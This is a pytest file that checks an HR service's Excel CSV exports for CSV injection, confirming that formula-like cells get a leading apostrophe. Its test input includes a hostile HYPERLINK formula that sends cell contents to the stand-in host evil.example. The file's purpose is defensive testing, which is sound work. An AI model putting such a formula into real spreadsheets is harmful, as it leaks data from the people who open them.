"""The CSV exports are made for Excel, and their text comes from the HR system's messages (departments, ids,
titles): a cell that starts like a formula (=, +, -, @) would be run by Excel when the HR manager opens the
file ("CSV injection"). Such a cell is written with a leading apostrophe, which makes Excel show it as text."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import date as D

import actions_facts as f
import httpx
import pytest

from services.core.app import App
from services.core.tabular import excel_csv
from services.doors.http import create_app

T = "acme"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
async def client(core: App) -> AsyncIterator[httpx.AsyncClient]:
    api = create_app(app=core, run_projections=False)
    async with api.router.lifespan_context(api):
        transport = httpx.ASGITransport(app=api)
        async with httpx.AsyncClient(transport=transport, base_url="http://eduplan.test") as http:
            yield http


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


async def test_a_department_that_looks_like_a_formula_is_text_in_actions_csv(client, given) -> None:
    await given(f.hire("e1", FORMULA, D(2024, 1, 1)), f.agree("a1", "e1", D(2025, 1, 1), due=D(2025, 3, 1)))
    response = await client.get(f"/v1/tenants/{T}/actions.csv", params={"as_of": "2025-06-01"})
    assert response.status_code == 200, response.text
    rows = _cells(response.content)
    departments = [row[5] for row in rows[1:]]
    assert departments and all(cell == "'" + FORMULA for cell in departments), departments


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    [row] = _cells(excel_csv([[text]]))[-1:]
    assert row == ["'" + text]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    rows = _cells(excel_csv([[-1.5, 0.25, -3, "rd", "e-1", None, True]], lang="da"))
    assert rows == [["-1,5", "0,25", "-3", "rd", "e-1", "", "ja"]]


def test_the_funding_csv_writes_a_formula_like_department_as_text() -> None:
    from services.core.funding.report import funding_csv

    report = {"bookings": [{"booking_id": "@b1", "employee_id": "+e1", "department": FORMULA, "starts_on": "2025-05-05",
                            "schemes": [{"scheme": "veu", "state": "expected", "deadline": "2025-06-16",
                                         "expected": "-12.50"}]}]}
    [_, row] = _cells(funding_csv(report))
    assert row[:3] == ["'@b1", "'+e1", "'" + FORMULA]
    assert row[7] == "-12.50"  # an amount stays a number
